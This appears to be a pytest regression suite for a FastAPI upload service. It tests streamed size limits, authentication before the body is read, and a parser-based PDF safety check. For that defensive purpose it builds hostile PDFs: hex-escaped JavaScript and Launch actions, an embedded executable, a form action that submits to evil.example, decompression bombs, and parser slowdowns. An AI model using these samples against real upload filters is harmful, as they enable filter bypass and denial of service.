"""Uploads against hostile clients (issue 18): streamed byte budgets, auth before the body is read,
and the PDF check by a real parser, bounded in time and memory."""
from __future__ import annotations

import functools
import io
import json
import socket
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pikepdf
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from server_testkit import (
    KIOSK_TOKEN,
    STAFF_PASSWORD,
    STAFF_USER,
    AppFactory,
    LiveServer,
    dossier_payload,
    make_pdf,
    sqlite_only,
    staff_login,
    submit,
)
from starlette.types import Message, Receive, Scope, Send

MB = 1024 * 1024
CHUNK = 64 * 1024
SLACK = 512 * 1024
"""What the server may read past a limit before it notices: a few of uvicorn's read buffers."""
BOUNDARY = "h18boundary"


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    """Uploads do not depend on the database engine: SQLite only."""
    return sqlite_only(tmp_path)


class BodyCounter:
    """Wraps an app and counts the request body bytes the app took from the server."""

    def __init__(self, app: FastAPI) -> None:
        self.app = app
        self.read = 0

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def counted() -> Message:
            message = await receive()
            if message["type"] == "http.request":
                self.read += len(message.get("body", b""))
            return message

        await self.app(scope, counted, send)


@pytest.fixture
def counted_server(make_app: AppFactory) -> Iterator[Any]:
    """Start a live server for an app built with the given settings; yields a function doing that."""
    servers: list[LiveServer] = []

    def start(**settings: Any) -> tuple[LiveServer, BodyCounter]:
        counter = BodyCounter(make_app(**settings))
        server = LiveServer(counter)
        servers.append(server.__enter__())
        return server, counter

    yield start
    for server in servers:
        server.__exit__(None, None, None)


def _file_part_head(index: int) -> bytes:
    return (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{index}.pdf\"\r\n"
            f"Content-Type: application/pdf\r\n\r\n").encode()


def multipart_chunks(parts: int, part_bytes: int) -> Iterator[bytes]:
    """A multipart body with a small JSON field, then ``parts`` file parts of ``part_bytes`` each."""
    yield f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"dossier\"\r\n\r\n{{}}\r\n".encode()
    filler = b"\0" * CHUNK
    for index in range(parts):
        yield _file_part_head(index)
        left = part_bytes
        while left > 0:
            yield filler[:min(left, CHUNK)]
            left -= CHUNK
        yield b"\r\n"
    yield f"--{BOUNDARY}--\r\n".encode()


def post_chunked(server: LiveServer, chunks: Iterator[bytes], token: str | None,
                 path: str = "/api/v1/dossiers") -> tuple[int, bytes]:
    """POST a chunked body (no Content-Length) on a raw socket; returns (bytes sent, response bytes).

    The response is read on its own thread while sending, so an answer that comes before the body is
    sent in full is seen even when the server then closes the connection.
    """
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
            f"Idempotency-Key: h18-upload-0001\r\n{auth}"
            f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n\r\n").encode()
    response = bytearray()
    sock = socket.create_connection(("127.0.0.1", server.port), timeout=20)

    def read_answer() -> None:
        try:
            while data := sock.recv(65536):
                response.extend(data)
        except OSError:
            pass

    reader = threading.Thread(target=read_answer, daemon=True)
    reader.start()
    sent = 0
    try:
        sock.sendall(head)
        for chunk in chunks:
            sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            sent += len(chunk)
        sock.sendall(b"0\r\n\r\n")
    except OSError:
        pass  # the server closed the connection: what we measure is how much it had read
    reader.join(20)
    sock.close()
    return sent, bytes(response)


def _status(response: bytes) -> int | None:
    return int(response.split(b" ", 2)[1]) if response.startswith(b"HTTP/1.1 ") else None


def test_chunked_upload_over_the_request_budget_is_cut_off_while_streaming(counted_server: Any) -> None:
    """Finding 3: without Content-Length the body was read (and spooled) in full before any limit applied."""
    server, counter = counted_server(max_request_bytes=2 * MB, max_file_bytes=64 * MB)
    total = 48 * MB
    sent, response = post_chunked(server, multipart_chunks(1, total), KIOSK_TOKEN)
    assert counter.read <= 2 * MB + SLACK, f"the app read {counter.read} bytes of a 2 MB budget"
    assert _status(response) == 413 and b"request_too_large" in response
    assert sent < total, "the server kept accepting the body after refusing it"


@pytest.mark.parametrize("path", ["/api/v1/dossiers", "/api/v1/dossiers/000.00.00.G06-260304-0001/supplements"])
def test_anonymous_upload_is_refused_before_its_body_is_read(counted_server: Any, path: str) -> None:
    """Finding 3: the multipart form (400 MB in the report) was parsed before the kiosk token was checked."""
    server, counter = counted_server(max_request_bytes=1024 * MB)
    total = 64 * MB
    sent, response = post_chunked(server, multipart_chunks(1, total), token=None, path=path)
    assert _status(response) == 401 and b"unauthorised_kiosk" in response
    assert counter.read <= SLACK, f"an anonymous request made the app read {counter.read} bytes"
    assert sent < total


def test_many_parts_each_under_the_file_limit_stop_at_the_request_budget(counted_server: Any) -> None:
    """Finding 3: 20 x 24 MB parts passed the 150 MB limit; scaled down: 20 x 0.9 MB against 4 MB."""
    server, counter = counted_server(max_request_bytes=4 * MB, max_file_bytes=1 * MB)
    sent, response = post_chunked(server, multipart_chunks(20, 900 * 1024), KIOSK_TOKEN)
    assert counter.read <= 4 * MB + SLACK
    assert _status(response) == 413 and b"request_too_large" in response
    assert sent < 20 * 900 * 1024


def test_one_file_over_the_file_limit_stops_the_read_at_that_limit(counted_server: Any) -> None:
    """Finding 3: the per-file limit applied only after the whole form had been spooled."""
    server, counter = counted_server(max_request_bytes=512 * MB, max_file_bytes=1 * MB)
    total = 64 * MB
    sent, response = post_chunked(server, multipart_chunks(1, total), KIOSK_TOKEN)
    assert _status(response) == 413 and b"file_too_large" in response
    assert counter.read <= 1 * MB + SLACK
    assert sent < total


# ---------------------------------------------------------------- PDF check (findings 1 and 9)


def build_pdf(extra: dict[int, bytes] | None = None, catalog: bytes = b"", page: bytes = b"",
              after_header: bytes = b"") -> bytes:
    """A one-page PDF written by hand, with a correct xref table, so hostile shapes parse cleanly.

    ``extra`` adds objects 4, 5, ...; ``catalog`` and ``page`` add entries to those dictionaries.
    """
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
               2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>", **(extra or {})}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[number] for number in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


def stream_object(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


@functools.cache
def flate_bomb(decoded_bytes: int) -> bytes:
    """Zeros that inflate to ``decoded_bytes``, compressed without holding them all in memory (once per
    process for each size)."""
    packer = zlib.compressobj(9)
    block = b"\0" * MB
    packed = b"".join(packer.compress(block) for _ in range(decoded_bytes // MB))
    return packed + packer.flush()


def with_pikepdf(build: Callable[[pikepdf.Pdf], None], object_streams: bool = False) -> bytes:
    """A reportlab PDF changed by ``build`` and saved by pikepdf (optionally with compressed object streams)."""
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        build(pdf)
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate if object_streams
                 else pikepdf.ObjectStreamMode.disable)
        return out.getvalue()


def _open_action_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                               JS=pikepdf.String("app.alert(1)")))


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return buffer.getvalue()


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
BYPASSES: dict[str, tuple[bytes, str]] = {
    "hex-escaped /JavaScript and /JS names": (
        build_pdf({4: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"}, catalog=b"/OpenAction 4 0 R"),
        "unsafe_pdf"),
    "hex-escaped /Launch": (
        build_pdf({4: b"<< /S /#4Caunch /F (C:\\\\Windows\\\\calc.exe) >>"}, catalog=b"/OpenAction 4 0 R"),
        "unsafe_pdf"),
    "script behind fake %stream comments": (
        build_pdf({4: b"%stream\n" + SCRIPT + b"\n%endstream"}, catalog=b"/OpenAction 4 0 R"), "unsafe_pdf"),
    "script inside a compressed object stream": (with_pikepdf(_open_action_script, object_streams=True),
                                                 "unsafe_pdf"),
    "hex-escaped embedded file": (
        build_pdf({4: b"<< /Type /Filespec /F (a.exe) /#45F << /F 5 0 R >> >>",
                   5: stream_object(b"MZ\x90\x00", b"/Type /Embedded#46ile")},
                  catalog=b"/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>"), "unsafe_pdf"),
    "form field that submits the form": (
        build_pdf({4: b"<< /FT /Btn /T (x) /Rect [0 0 10 10] /Subtype /Widget /P 3 0 R"
                      b" /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"},
                  catalog=b"/AcroForm << /Fields [4 0 R] >>", page=b"/Annots [4 0 R]"), "unsafe_pdf"),
    "javascript: link": (
        build_pdf({4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10]"
                      b" /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"}, page=b"/Annots [4 0 R]"), "unsafe_pdf"),
    "HTML after the header": (build_pdf(after_header=b"<html><body><script>alert(1)</script></body></html>\n"),
                              "not_a_pdf"),
    "ZIP appended after %%EOF": (build_pdf() + _zip_bytes(), "not_a_pdf"),
    "ZIP appended, then a fresh %%EOF": (build_pdf() + _zip_bytes() + b"\n%%EOF\n", "not_a_pdf"),
    "decompression bomb (64 KiB inflating to 64 MiB)": (
        build_pdf({4: stream_object(flate_bomb(64 * MB), b"/Filter /FlateDecode")},
                  page=b"/Contents 4 0 R"), "unsafe_pdf"),
    "run-length bomb (4 MiB decoding to 256 MiB)": (
        build_pdf({4: stream_object(bytes([129, 0]) * (2 * MB) + b"\x80", b"/Filter /RunLengthDecode")},
                  page=b"/Contents 4 0 R"), "unsafe_pdf"),
    "nested decompression bomb (Flate of Flate)": (
        build_pdf({4: stream_object(zlib.compress(flate_bomb(256 * MB), 9), b"/Filter [/FlateDecode /FlateDecode]")},
                  page=b"/Contents 4 0 R"), "unsafe_pdf"),
}


@pytest.mark.parametrize("name", list(BYPASSES))
def test_pdf_filter_bypasses_are_refused(client: TestClient, name: str) -> None:
    """Finding 9: each of these was accepted by the regular-expression filter."""
    data, expected = BYPASSES[name]
    response = submit(client, files=[data])
    assert response.status_code == 400, (name, response.status_code, response.text)
    assert response.json()["error"]["code"] == expected, (name, response.json()["error"])


def _link_annotation(pdf: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 200, 90],
                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn")))
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))


LEGITIMATE: dict[str, bytes] = {
    "reportlab, three pages": make_pdf(pages=3),
    "hand-written, one page": build_pdf(),
    "saved by pikepdf with object streams": with_pikepdf(lambda pdf: None, object_streams=True),
    "with a web link": with_pikepdf(_link_annotation),
    "run-length encoded content": build_pdf(
        {4: stream_object(bytes([2]) + b"q Q" + bytes([200, 32]) + b"\x80", b"/Filter /RunLengthDecode")},
        page=b"/Contents 4 0 R"),
    "a well-compressed scan (1 MiB of white in 1 KiB)": build_pdf(
        {4: stream_object(flate_bomb(1 * MB), b"/Filter /FlateDecode")}, page=b"/Contents 4 0 R"),
}


@pytest.mark.parametrize("name", list(LEGITIMATE))
def test_plain_pdfs_still_pass(client: TestClient, name: str) -> None:
    """Not a regression test (these pass on the old filter too): the guard that the parser-based check
    of finding 9 does not refuse ordinary documents."""
    response = submit(client, files=[LEGITIMATE[name]])
    assert response.status_code == 201, (name, response.text)


def test_staff_downloads_are_attachments_never_sniffed(make_app: AppFactory) -> None:
    """Finding 9: the staff console served uploads ``inline`` (and without nosniff)."""
    app = make_app(staff_user=STAFF_USER, staff_password=STAFF_PASSWORD)
    receipt = submit(TestClient(app, headers={"Authorization": f"Bearer {KIOSK_TOKEN}"})).json()
    staff = TestClient(app, base_url="https://testserver")  # the session cookie is Secure
    login = staff_login(staff)
    assert login.status_code == 303, login.text
    sha = receipt["documents"][0]["sha256"]
    response = staff.get(f"/staff/dossiers/{receipt['code']}/files/{sha}")
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"


#: longest /health wait that still counts as answering while a hostile upload is inspected: a server that inspected on
#: its request threads would wait the whole inspection (seconds to minutes); a loaded 2-core test machine has shown 1.1 s
RESPONSIVE_SECONDS = 5.0


def _upload_while_probing_health(server: LiveServer, pdf: bytes) -> tuple[httpx.Response, float, list[float]]:
    """Submit ``pdf`` on one thread while /health is asked every 50 ms; returns the answer, its time, and
    the /health latencies seen meanwhile."""
    latencies: list[float] = []
    done = threading.Event()

    def probe() -> None:
        with httpx.Client(base_url=server.url, timeout=30) as health:
            while not done.is_set():
                started = time.monotonic()
                assert health.get("/health").status_code == 200
                latencies.append(time.monotonic() - started)
                done.wait(0.05)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    started = time.monotonic()
    try:
        with httpx.Client(base_url=server.url, timeout=30,
                          headers={"Authorization": f"Bearer {KIOSK_TOKEN}"}) as kiosk:
            response = kiosk.post("/api/v1/dossiers", data={"dossier": json.dumps(dossier_payload())},
                                  files=[("files", ("a.pdf", pdf, "application/pdf"))],
                                  headers={"Idempotency-Key": "h18-slow-pdf-0001"})
    finally:
        elapsed = time.monotonic() - started
        done.set()
        prober.join(30)
    return response, elapsed, latencies


def test_repeated_stream_keywords_are_checked_in_linear_time(counted_server: Any) -> None:
    """Finding 1: 136 KB of ``stream\\n`` without ``endstream`` took 10 s (quadratic); 2 MB would take hours."""
    server, _ = counted_server()
    pdf = b"%PDF-1.4\n" + b"stream\n" * (2 * MB // 7) + b"%%EOF\n"
    response, elapsed, latencies = _upload_while_probing_health(server, pdf)
    assert response.status_code == 400 and response.json()["error"]["code"] == "not_a_pdf"
    # bounds far from both a loaded test machine (0.1-1.1 s seen) and the defect (quadratic: 136 KB took 10 s, so
    # 2 MB about 40 minutes)
    assert elapsed < 30.0, f"a 2 MB hostile PDF took {elapsed:.1f} s to refuse"
    assert max(latencies, default=0) < RESPONSIVE_SECONDS, f"/health waited {max(latencies):.1f} s"


@pytest.mark.expect_log(logger="server.pdf_check", level="WARNING", message=r"PDF inspection ended with status", optional=True)
def test_parser_worst_case_is_cut_off_and_the_server_stays_responsive(counted_server: Any) -> None:
    """Finding 1: a file on which the parser itself is slow (30,000 streams with a wrong /Length and no
    ``endstream`` take qpdf ~30 s) is refused at the time limit while /health keeps answering."""
    server, _ = counted_server(pdf_check_seconds=1.0)
    body = b"".join(b"%d 0 obj<</Length 999999999>>stream\nxx\n" % number for number in range(1, 30000))
    pdf = b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    response, elapsed, latencies = _upload_while_probing_health(server, pdf)
    assert response.status_code == 400 and response.json()["error"]["code"] == "unsafe_pdf", response.text
    assert elapsed < 15.0, f"the check ran {elapsed:.1f} s past a 1 s limit (uncut: about 30 s)"
    assert max(latencies, default=0) < RESPONSIVE_SECONDS, f"/health waited {max(latencies):.1f} s"


def test_the_inspection_is_bounded_in_memory_too(make_app: AppFactory) -> None:
    """Finding 1: the parse is bounded in memory as well as in time: with no decode budget to stop it, a
    stream that inflates to 256 MiB is stopped by the inspecting process's address-space cap (64 MiB here)."""
    app = make_app(pdf_check_memory_bytes=64 * MB, pdf_max_decoded_bytes=1 << 40, pdf_max_inflation=1 << 20)
    kiosk = TestClient(app, headers={"Authorization": f"Bearer {KIOSK_TOKEN}"})
    inflating = build_pdf({4: stream_object(flate_bomb(256 * MB), b"/Filter [/FlateDecode /ASCIIHexDecode]")},
                          page=b"/Contents 4 0 R")
    response = submit(kiosk, files=[inflating])
    assert response.status_code == 400, response.text
    assert response.json()["error"] == {**response.json()["error"], "code": "unsafe_pdf",
                                        "detail": "too large to inspect"}
